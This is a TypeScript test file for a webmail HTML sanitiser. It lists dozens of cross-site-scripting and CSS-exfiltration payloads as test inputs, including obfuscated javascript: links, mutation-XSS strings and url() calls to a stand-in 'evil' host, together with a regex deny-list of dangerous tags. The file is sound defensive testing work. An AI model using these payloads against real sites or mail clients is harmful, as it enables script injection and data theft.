import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { sanitiseHtml } from './sanitise.ts';

function clean(html: string, remoteImages = false): string {
  const result = sanitiseHtml(html, {
    remoteImages,
    resolveCid: (id) => (id === 'logo@example' ? '/api/webmail/part?p=2' : undefined),
  });
  if (!result) throw new Error('refused');
  return result.html + (result.css ? `<!css>${result.css}` : '');
}

/** What must never come out, whatever goes in. */
const FORBIDDEN =
  /<\/?(?:script|iframe|object|embed|form|input|button|textarea|select|svg|math|meta|base|link|style|frame|frameset|applet|video|audio|source|template|noscript|xmp|plaintext)\b|<[^>]*\son[a-z]+\s*=|javascript:|vbscript:|expression\(|@import|url\(/i;

const HOSTILE: readonly [name: string, html: string][] = [
  ['a script', '<script>alert(1)</script>'],
  ['a script in mixed case', '<ScRiPt src=//evil></sCrIpT >'],
  ['an unclosed script', 'x<script>alert(1)'],
  ['a script split by a comment', '<scr<!-- -->ipt>alert(1)</scr<!-- -->ipt>'],
  ['nested script halves', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['an event handler', '<img src=x onerror=alert(1)>'],
  ['a handler after a slash', '<img/src=x/onerror=alert(1)>'],
  ['a handler without quotes and with newline', '<div onclick\n=alert(1)>x</div>'],
  ['a handler on body', '<body onload=alert(1)>x</body>'],
  ['a handler on details', '<details open ontoggle=alert(1)>x</details>'],
  ['a javascript link', '<a href="javascript:alert(1)">x</a>'],
  ['a javascript link with a tab', '<a href="java\tscript:alert(1)">x</a>'],
  ['a javascript link with entities', '<a href="&#106;avascript&colon;alert(1)">x</a>'],
  ['a javascript link with a leading control', '<a href="\u0001javascript:alert(1)">x</a>'],
  ['a javascript link with a zero width space', '<a href="\u200bjavascript:alert(1)">x</a>'],
  ['a vbscript link', '<a href="VBScript:msgbox(1)">x</a>'],
  ['a data link', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
  ['a blob link', '<a href="blob:http://x/1">x</a>'],
  ['a javascript image', '<img src="javascript:alert(1)">'],
  ['an SVG data image', '<img src="data:image/svg+xml;base64,PHN2Zz4=">'],
  ['an SVG with a script', '<svg><script>alert(1)</script></svg>'],
  ['an SVG with onload', '<svg/onload=alert(1)>'],
  ['an SVG with foreignObject', '<svg><foreignObject><body onload=alert(1)></foreignObject></svg>'],
  ['an SVG animating a link', '<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>'],
  ['MathML with a link', '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'],
  [
    'mutation by math and style',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  ],
  ['mutation by noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ['mutation by title', '<svg><title><style><img src=x onerror=alert(1)></style></title></svg>'],
  ['mutation by textarea', '<textarea></textarea/><img src=x onerror=alert(1)>'],
  ['a style that ends early', '<style>a{}</style ><img src=x onerror=alert(1)>'],
  ['a style with an import', '<style>@import url(//evil/x.css);</style>'],
  ['a style that fetches', '<style>p{background:url(https://evil/t.gif)}</style><p>x</p>'],
  ['a style with a font', '<style>@font-face{font-family:x;src:url(//evil)}</style>'],
  ['a style with escapes', '<style>p{background:\\75\\72\\6c(//evil)}</style>'],
  ['a style with an expression', '<style>p{width:expression(alert(1))}</style>'],
  ['a style holding markup', '<style>p{content:"</style><script>alert(1)</script>"}</style>'],
  ['a style in a comment', '<style><!-- </style><script>alert(1)</script> --></style>'],
  ['an attribute selector that leaks', '<style>input[value^=a]{background:url(//evil/a)}</style>'],
  ['a style attribute that fetches', '<p style="background-image:url(https://evil/t.gif)">x</p>'],
  ['a style attribute with image-set', '<p style="background:image-set(\'//evil/x.png\' 1x)">x</p>'],
  ['a style attribute with a brace', '<p style="color:red}body{background:url(//evil)">x</p>'],
  ['a style attribute with -moz-binding', '<p style="-moz-binding:url(//evil#x)">x</p>'],
  ['a style attribute with behavior', '<p style="behavior:url(x.htc)">x</p>'],
  ['a meta refresh', '<meta http-equiv=refresh content="0;url=javascript:alert(1)">'],
  ['a base', '<base href="https://evil/">'],
  ['a stylesheet link', '<link rel=stylesheet href=//evil/x.css>'],
  ['a prefetch link', '<link rel=dns-prefetch href=//evil>'],
  ['an iframe', '<iframe src=//evil></iframe>'],
  ['an iframe with srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['an object', '<object data=//evil/x.swf></object>'],
  ['an embed', '<embed src=//evil/x.swf>'],
  ['a form', '<form action=//evil><input name=password><button formaction=//evil>go</button></form>'],
  ['an autofocused input', '<input autofocus onfocus=alert(1)>'],
  ['video and audio', '<video src=//evil onloadstart=alert(1)><source src=//evil></video><audio src=//evil>'],
  ['a picture with a source', '<picture><source srcset="//evil/x.png"><img src=x></picture>'],
  ['a table background', '<table background="//evil/t.gif"><tr><td background="//evil/u.gif">x</table>'],
  ['xmp', '<xmp><script>alert(1)</script></xmp>'],
  ['plaintext', '<plaintext><script>alert(1)</script>'],
  ['a template', '<template><script>alert(1)</script></template>'],
  ['a conditional comment', '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->'],
  ['a CDATA section', '<![CDATA[<script>alert(1)</script>]]>'],
  ['a processing instruction', '<?xml version="1.0"?><script>alert(1)</script>'],
  ['a null in a tag name', '<scr\0ipt>alert(1)</scr\0ipt>'],
  ['a backtick attribute', '<img src=`x` onerror=`alert(1)`>'],
  ['a custom element', '<x-evil onclick=alert(1)>x</x-evil>'],
];

test.each(HOSTILE)('%s does not survive', (_name, html) => {
  expect(clean(html)).not.toMatch(FORBIDDEN);
  expect(clean(html, true)).not.toMatch(FORBIDDEN);
  expect(clean(html)).not.toMatch(/evil/);
});

const RAW_TEXT = [
  'textarea',
  'option',
  'xmp',
  'noscript',
  'iframe',
  'noembed',
  'noframes',
  'plaintext',
  'title',
  'script',
];
const PAYLOAD =
  '<link rel=preconnect href=//sender><meta http-equiv=refresh content=0><img src=x onerror=alert(1)><script>alert(1)</script>';
/** Where the parser's limit of nesting lies, and far below it. */
const DEPTHS = [0, 198, 199, 200, 201, 202, 1_000];

/** What a browser would make elements of. */
function elementsOf(html: string): string[] {
  return [...html.matchAll(/<[a-z!?][^>]*>/gi)].map(([tag]) => tag);
}

describe.each([
  ['style', '', ''],
  ...RAW_TEXT.map((tag) => [tag, '', '']),
  ...['svg', 'math', 'iframe', 'noscript', 'noembed', 'template', 'select', 'p', 'table', 'table><tr><td'].map(
    (tag) => ['style', `<${tag}>`, `</${tag.replace(/>.*/, '')}>`],
  ),
  ...['svg', 'math', 'style', 'noscript'].flatMap((outer) => RAW_TEXT.map((tag) => [tag, `<${outer}>`, `</${outer}>`])),
])('markup hidden in %s of “%s”', (tag = '', before = '', after = '') => {
  test.each(DEPTHS)('does not survive at depth %i', (depth) => {
    for (const payload of [PAYLOAD, `<!--${PAYLOAD}`, `</p>${PAYLOAD}`, `<title>${PAYLOAD}`]) {
      for (const end of [`</${tag}>`, `</${tag}/>`, '']) {
        const html = clean(`${'<div>'.repeat(depth)}${before}<${tag}>${payload}${end}${after}<b>tail</b>`);
        const kept = elementsOf(html.split('<!css>')[0] ?? '');
        expect(kept.filter((element) => !/^<(?:div|p|b|table|tbody|tr|td|img)(?: \/)?>$/.test(element))).toEqual([]);
      }
    }
  });
});

test('style sheets are found at any depth, and their text never stands in the mail', () => {
  for (const depth of DEPTHS) {
    const html = `${'<div>'.repeat(depth)}<style>.a{color:red}</style>tail`;
    const result = sanitiseHtml(html, { remoteImages: false, resolveCid: () => undefined });
    expect(result?.css).toContain('color:red');
    expect(result?.html).not.toContain('color');
    expect(result?.html).toContain('tail');
  }
});

test('sanitising twice changes nothing', () => {
  for (const [, html] of HOSTILE) {
    const once = sanitiseHtml(html, { remoteImages: false, resolveCid: () => undefined })?.html ?? '';
    expect(sanitiseHtml(once, { remoteImages: false, resolveCid: () => undefined })?.html).toBe(once);
  }
});

test('no mixture of hostile fragments survives', () => {
  const fragment = fc.oneof(
    fc.constantFrom(...HOSTILE.map(([, html]) => html)),
    fc.constantFrom(
      '<',
      '>',
      '"',
      "'",
      '</',
      '<!--',
      '-->',
      '<style>',
      '</style>',
      '<svg>',
      '<math>',
      '<p title="',
      '&lt;',
      '=',
      '\0',
    ),
    fc.string({ maxLength: 8 }),
  );
  fc.assert(
    fc.property(fc.array(fragment, { maxLength: 12 }), (parts) => {
      // Words that stand as text or in a quoted title are harmless: only markup and what a browser acts on is looked at.
      const tags = clean(parts.join(''))
        .replace(/ (?!href=|src=|style=)[a-z]+="[^"]*"/g, '')
        .replace(/(?<=^|>)[^<]*/g, '');
      expect(tags).not.toMatch(FORBIDDEN);
    }),
    { numRuns: 300 },
  );
});

describe('images', () => {
  test('of the network are left out and counted', () => {
    const result = sanitiseHtml('<img src="https://a/x.gif"><img src="//b/y.gif"><img src="http://c/z.gif" alt="z">', {
      remoteImages: false,
      resolveCid: () => undefined,
    });
    expect(result?.blockedImages).toBe(3);
    expect(result?.html).not.toContain('src=');
    expect(result?.html).toContain('alt="z"');
  });
  test('of the network come over https when asked for', () => {
    expect(clean('<img src="http://a/x.gif">', true)).toContain('src="https://a/x.gif"');
  });
  test('of the mail come through our route', () => {
    const result = sanitiseHtml('<img src="cid:logo%40example">', {
      remoteImages: false,
      resolveCid: (id) => `/part/${id}`,
    });
    expect(result?.html).toContain('src="/part/logo@example"');
    expect([...(result?.usedCids ?? [])]).toEqual(['logo@example']);
    expect(result?.blockedImages).toBe(0);
  });
  test('whose cid is not in the mail lose their source', () => {
    expect(clean('<img src="cid:other" alt="o">')).toBe('<img alt="o" />');
  });
});

describe('what a letter needs stays', () => {
  test('links open elsewhere and say nothing of us', () => {
    expect(clean('<a href="https://example.org/?a=1&amp;b=2">x</a>')).toBe(
      '<a href="https://example.org/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">x</a>',
    );
  });
  test('links lose the blanks around them', () => {
    expect(clean('<a href="  https://example.org/a b%20 ">x</a>')).toContain(' href="https://example.org/a%20b" ');
    expect(clean('<a href="%20 %20">x</a>')).not.toContain('href');
  });
  test('links up to 8 KiB', () => {
    const linkOf = (length: number) => `https://example.org/${' '.repeat(length - 21)}x`;
    expect(clean(`<a href="${linkOf(8192)}">x</a>`)).toContain(`${'%20'.repeat(8171)}x"`);
    expect(clean(`<a href="${linkOf(8193)}">x</a>`)).not.toContain('href');
  });
  test('tables, colours and fonts', () => {
    const html = clean(
      '<table width="600" bgcolor="#fff"><tr><td style="color:#333;padding:4px 8px;position:fixed">x</td></tr></table>',
    );
    expect(html).toContain('<table width="600" bgcolor="#fff">');
    expect(html).toContain('style="color:#333;padding:4px 8px"');
  });
  test('rules and media queries of a style sheet', () => {
    const html = clean(
      '<style>@media (max-width:600px){.a{width:100% !important;behavior:x}} .b{color:red}</style><p class="a">x</p>',
    );
    expect(html).toContain('@media (max-width:600px)');
    expect(html).toContain('width:100% !important');
    expect(html).not.toContain('behavior');
  });
  test('right-to-left text', () => {
    expect(clean('<p dir="rtl">שלום</p>')).toBe('<p dir="rtl">שלום</p>');
  });
  test('the colours of the body element', () => {
    expect(clean('<html><body style="background:#eee">x</body></html>')).toBe('<div style="background:#eee">x</div>');
  });
});

test('a million tags are refused, not parsed', () => {
  expect(sanitiseHtml('<b>'.repeat(1_000_000), { remoteImages: false, resolveCid: () => undefined })).toBeUndefined();
});

test('ten thousand nested elements come out bounded', () => {
  const html = clean('<div>'.repeat(10_000));
  expect(html.split('<div>').length).toBeLessThan(300);
});
